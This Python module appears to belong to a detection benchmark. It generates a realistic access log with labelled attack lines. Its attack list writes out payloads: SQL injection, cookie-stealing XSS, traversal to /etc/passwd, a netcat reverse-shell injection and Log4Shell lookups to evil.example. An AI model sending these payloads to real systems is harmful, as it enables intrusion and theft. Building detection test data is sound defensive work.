"""A realistic, labelled combined-format access log for benchmarks and detection measurements.

``python -m bench generate OUT --lines N [--attack-ratio R] [--days D] [--seed S] [--benign-only]``

Traffic: a few thousand visitors (IPv4 and some IPv6) browsing a site map of pages
and their assets with a diurnal rate, real user agents weighted as seen in real
traffic, referrers, a realistic status and size mix.  A share of lines (``R``,
default 2%) are attacks, each labelled in ``OUT.labels.jsonl`` with its line
number, kind and source IP: SQL injection, XSS, path traversal, command
injection, Log4Shell, sensitive-file probes, scanner user agents, 404 scanning,
brute-force logins and a request flood.  Benign lines carry no label.
"""

from __future__ import annotations

import argparse
import datetime as dt
import json
import random
from pathlib import Path

import numpy as np

HERE = Path(__file__).parent

SECTIONS = ["blog", "docs", "products", "support", "news", "about", "careers", "pricing", "community"]
WORDS = ["intro", "setup", "release", "guide", "faq", "api", "summer", "team", "roadmap", "install", "backup",
         "performance", "security", "monitoring", "logstash", "kibana", "puppet", "deploy", "python", "linux"]  # fmt: skip
ASSETS = ["/static/css/site.css", "/static/js/app.js", "/static/js/vendor.js", "/favicon.ico",
          "/static/img/logo.png", "/static/fonts/inter.woff2", "/robots.txt"]  # fmt: skip
REFERRERS = ["https://www.google.com/", "https://www.bing.com/", "https://duckduckgo.com/",
             "https://news.ycombinator.com/", "https://t.co/abc123", "-"]  # fmt: skip
MODERN_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.43 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.2210.61",
    "Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/23.0 Chrome/115.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPad; CPU OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "curl/8.4.0",
    "python-requests/2.31.0",
]  # fmt: skip
SCANNER_AGENTS = [
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
    "Mozilla/5.0 zgrab/0.x",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
]
ATTACKS = {
    "sqli": ["/products?id=1%27%20OR%20%271%27=%271", "/search?q=1+UNION+SELECT+username,password+FROM+users--",
             "/item.php?id=1;DROP%20TABLE%20users", "/news?id=-1%20union/**/select%201,2,3"],
    "xss": ["/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/comment?text=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
            "/profile?name=javascript:alert(document.cookie)"],
    "traversal": ["/static/../../../../etc/passwd", "/download?file=..%2f..%2f..%2fetc%2fpasswd",
                  "/index.php?page=....//....//etc/shadow", "/img?f=%2e%2e%2f%2e%2e%2fwindows/win.ini"],
    "cmd_injection": ["/ping?host=127.0.0.1;cat%20/etc/passwd", "/cgi-bin/test.sh?x=%60id%60",
                      "/api/run?cmd=|nc%20-e%20/bin/sh%2010.0.0.1%204444"],
    "log4shell": ["/?x=${jndi:ldap://evil.example/a}", "/login?user=%24%7Bjndi%3Armi%3A%2F%2Fevil.example%2Fx%7D"],
    "sensitive_file": ["/.env", "/.git/config", "/wp-config.php.bak", "/backup.sql", "/.aws/credentials",
                       "/id_rsa", "/config/database.yml", "/.htpasswd"],
}  # fmt: skip


def load_agents() -> tuple[list[str], list[int]]:
    agents, weights = [], []
    for line in (HERE / "user_agents.tsv").read_text(encoding="utf-8").splitlines():
        if line.startswith("#") or not line.strip():
            continue
        weight, agent = line.split("\t", 1)
        agents.append(agent)
        weights.append(int(weight))
    for agent in MODERN_AGENTS:
        agents.append(agent)
        weights.append(max(weights) // 3)
    return agents, weights


class Generator:
    def __init__(self, seed: int, days: int, lines: int):
        self.rng = random.Random(seed)
        self.agents, self.weights = load_agents()
        rng = self.rng
        self.visitors = [self._ip(v6=rng.random() < 0.08) for _ in range(max(50, min(20_000, lines // 50)))]
        self.visitor_agent = {ip: rng.choices(self.agents, self.weights)[0] for ip in self.visitors}
        self.pages = ["/"] + [
            f"/{s}/{rng.choice(WORDS)}-{rng.choice(WORDS)}-{i}" for s in SECTIONS for i in range(rng.randint(10, 40))
        ]
        self.start = dt.datetime(2026, 11, 1, tzinfo=dt.timezone.utc)
        self.span = days * 86400
        self.lines = lines
        # Diurnal traffic: busiest mid-afternoon, quietest before dawn (rate varies about 1:5).
        seconds = np.arange(self.span)
        rate = 1.0 + 0.65 * np.sin(2 * np.pi * (seconds / 86400 - 0.375))
        self._cdf = np.cumsum(rate) / rate.sum()

    def _ip(self, v6: bool = False) -> str:
        r = self.rng
        if v6:
            return f"2001:db8:{r.randrange(65536):x}:{r.randrange(65536):x}::{r.randrange(1, 65536):x}"
        return f"{r.choice([23, 31, 46, 66, 81, 89, 93, 109, 176, 185, 203])}.{r.randrange(256)}.{r.randrange(256)}.{r.randrange(1, 255)}"

    def time_at(self, i: int) -> dt.datetime:
        second = int(np.searchsorted(self._cdf, i / self.lines))
        return self.start + dt.timedelta(seconds=min(second, self.span - 1))

    @staticmethod
    def line(ip, when, method, url, status, size, referrer, agent, user="-") -> str:
        stamp = when.strftime("%d/%b/%Y:%H:%M:%S +0000")
        return f'{ip} - {user} [{stamp}] "{method} {url} HTTP/1.1" {status} {size} "{referrer}" "{agent}"'

    def benign(self, i: int) -> str:
        r = self.rng
        ip = r.choice(self.visitors)
        if r.random() < 0.45:
            url, size = r.choice(ASSETS), r.randrange(500, 250_000)
        else:
            url, size = r.choice(self.pages), r.randrange(2_000, 60_000)
            if r.random() < 0.1:
                url += f"?page={r.randrange(1, 9)}"
        status = r.choices([200, 304, 301, 404, 206, 500], [88, 6, 2, 2.5, 1, 0.5])[0]
        if status in (304, 301):
            size = 0 if status == 304 else 230
        method = "POST" if r.random() < 0.02 else "GET"
        return self.line(ip, self.time_at(i), method, url, status, size, r.choice(REFERRERS), self.visitor_agent[ip])

    def attack(self, when: dt.datetime, kind: str, ip: str) -> str:
        r = self.rng
        agent = r.choice(self.agents[:50])
        if kind == "scanner_ua":
            return self.line(ip, when, "GET", r.choice(self.pages), 404, 196, "-", r.choice(SCANNER_AGENTS))
        if kind == "scan_404":
            return self.line(ip, when, "GET", f"/{r.choice(WORDS)}{r.randrange(10**6)}.php", 404, 196, "-", agent)
        if kind == "brute_force":
            return self.line(ip, when, "POST", "/login", 401, 512, "-", agent, user=r.choice(["admin", "root", "test"]))
        if kind == "flood":
            return self.line(ip, when, "GET", "/", 200, 15_000, "-", agent)
        url = r.choice(ATTACKS[kind])
        return self.line(ip, when, "GET", url, r.choice([400, 403, 404, 200]), r.randrange(150, 900), "-", agent)


#: Attacks that come as a fast burst of consecutive requests: lines per burst, seconds between them.
BURSTY = {"brute_force": (40, 1.0), "scan_404": (60, 0.5), "flood": (150, 0.02)}
#: Slow probes are interleaved with normal traffic, as a patient attacker sends them.


def generate(out: Path, lines: int, attack_ratio: float, days: int, seed: int) -> dict[str, int]:
    gen = Generator(seed, days, lines)
    r = gen.rng
    kinds = [*ATTACKS, "scanner_ua", *BURSTY]
    counts: dict[str, int] = {}
    burst: list[tuple[str, str]] = []
    mean_burst = sum(BURSTY[k][0] if k in BURSTY else 15.5 for k in kinds) / len(kinds)
    start_probability = attack_ratio / mean_burst
    with open(out, "w", encoding="utf-8") as log, open(f"{out}.labels.jsonl", "w", encoding="utf-8") as labels:
        for i in range(lines):
            if not burst and r.random() < start_probability:
                kind = r.choice(kinds)
                size = BURSTY[kind][0] if kind in BURSTY else r.randint(1, 30)
                burst = [(kind, gen._ip())] * size
                clock = gen.time_at(i)
            if burst and (burst[0][0] in BURSTY or r.random() < 0.5):
                kind, ip = burst.pop()
                if kind in BURSTY:
                    clock += dt.timedelta(seconds=BURSTY[kind][1])
                when = clock if kind in BURSTY else gen.time_at(i)
                log.write(gen.attack(when, kind, ip) + "\n")
                labels.write(json.dumps({"line": i + 1, "attack": kind, "source_ip": ip}) + "\n")
                counts[kind] = counts.get(kind, 0) + 1
            else:
                log.write(gen.benign(i) + "\n")
    return counts


def main(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(prog="python -m bench generate", description=__doc__.split("\n\n")[0])
    parser.add_argument("out", type=Path)
    parser.add_argument("--lines", type=int, default=1_000_000)
    parser.add_argument("--attack-ratio", type=float, default=0.02, help="share of attack lines (0 for benign only)")
    parser.add_argument("--days", type=int, default=2)
    parser.add_argument("--seed", type=int, default=1)
    args = parser.parse_args(argv)
    counts = generate(args.out, args.lines, args.attack_ratio, args.days, args.seed)
    total = sum(counts.values())
    print(f"wrote {args.lines} lines to {args.out} ({total} attack lines labelled in {args.out}.labels.jsonl)")
    for kind, n in sorted(counts.items()):
        print(f"  {kind:15} {n}")
    return 0
